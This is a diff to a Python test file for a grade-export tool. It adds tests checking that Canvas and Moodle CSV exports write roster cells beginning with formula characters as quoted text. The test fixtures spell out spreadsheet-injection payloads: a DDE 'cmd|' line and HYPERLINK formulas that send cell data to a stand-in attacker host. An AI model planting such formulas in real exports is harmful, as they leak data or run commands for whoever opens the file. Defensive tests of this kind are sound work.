@@ -28,7 +28,8 @@ def _read(path):
 
 def test_canvas_file_keeps_canvas_header_rules(tmp_path):
     """Identity columns first with Section last of them, the assignment's own column, Points Possible second;
-    matched by SIS Login ID; a name with a comma, quotes or a leading = survives the round trip as it was."""
+    matched by SIS Login ID; a name with a comma or quotes survives the round trip as it was, one with a leading =
+    is written as text (a leading quote)."""
     roster = tmp_path / "roster.csv"
     roster.write_text(CANVAS_ROSTER, encoding="utf-8")
     out = tmp_path / "canvas.csv"
@@ -39,7 +40,7 @@ def test_canvas_file_keeps_canvas_header_rules(tmp_path):
     assert rows[2:] == [
         ["Doe, Jane", "1001", "s1001", "jdoe", "Section A", "55"],
         ['O\'Brien "Bob"', "1002", "s1002", "bob", "Section A", "27.5"],
-        ["=cmd|' /C calc'!A0", "1003", "s1003", "mallory", "Section B", "0"],  # as Canvas holds it
+        ["'=cmd|' /C calc'!A0", "1003", "s1003", "mallory", "Section B", "0"],
     ]
     assert (written.matched, written.roster_only, written.graded_only) == (3, ["Nobody Graded"], ["stray"])
 
@@ -69,6 +70,54 @@ def test_moodle_file_matches_by_id_number_then_email(tmp_path):
         ["Bob", "Roe", "", "Bob@Uni.edu", "40"],
     ]
     assert (written.roster_only, written.graded_only) == ([], [])
+
+
+FORMULAS = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs at a cell's start (OWASP's CSV injection)
+
+
+def test_canvas_file_runs_no_formula_from_the_roster(tmp_path):
+    """Every identity cell starting with =, +, -, @ or a tab (a name, SIS IDs, the assignment's title) is written
+    as text behind a leading quote; students are still matched on the roster's own values, and Canvas matches on
+    ID (digits) first, so nothing is lost."""
+    roster = tmp_path / "roster.csv"
+    roster.write_text(
+        "Student,ID,SIS User ID,SIS Login ID,Section\n"
+        '"=HYPERLINK(""https://evil.example/?d=""&B2,""grades"")",2001,s2001,jdoe,A\n'
+        "@SUM(1),2002,-2002,+bob,=Section\n"
+        '"\tTab",2003,s2003,tab,A\n',
+        encoding="utf-8",
+    )
+    out = tmp_path / "canvas.csv"
+    written = write_canvas(out, roster, "=1+1", {"jdoe": 55.0, "+bob": 27.5, "tab": 1.0}, 55.0)
+    assert written.matched == 3
+    rows = _read(out)
+    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "'=1+1"]
+    assert rows[2:] == [
+        ['\'=HYPERLINK("https://evil.example/?d="&B2,"grades")', "2001", "s2001", "jdoe", "A", "55"],
+        ["'@SUM(1)", "2002", "'-2002", "'+bob", "'=Section", "27.5"],
+        ["'\\x09Tab", "2003", "s2003", "tab", "A", "1"],
+    ]
+    assert [cell for row in rows for cell in row if cell[:1] in FORMULAS] == []
+
+
+def test_moodle_file_runs_no_formula_from_the_roster(tmp_path):
+    """Moodle: names, ID number, username and e-mail starting with a formula character are written as text;
+    matching reads the roster's own values."""
+    roster = tmp_path / "moodle.csv"
+    roster.write_text(
+        "First name,Last name,ID number,Username,Email address,SDPA\n"
+        '"=HYPERLINK(""https://evil.example"",""x"")",@SUM(1),-42,@eve,+eve@uni.edu,\n'
+        "Jane,Doe,s1001,jdoe,jane@uni.edu,\n",
+        encoding="utf-8",
+    )
+    out = tmp_path / "m.csv"
+    written = write_moodle(out, roster, "SDPA", {"-42": 10.0, "s1001": 50.0})
+    assert (written.matched, written.graded_only) == (2, [])
+    assert _read(out) == [
+        ["First name", "Last name", "ID number", "Username", "Email address", "SDPA"],
+        ['\'=HYPERLINK("https://evil.example","x")', "'@SUM(1)", "'-42", "'@eve", "'+eve@uni.edu", "10"],
+        ["Jane", "Doe", "s1001", "jdoe", "jane@uni.edu", "50"],
+    ]
 
 
 def test_a_roster_that_is_not_an_export_is_refused(tmp_path):
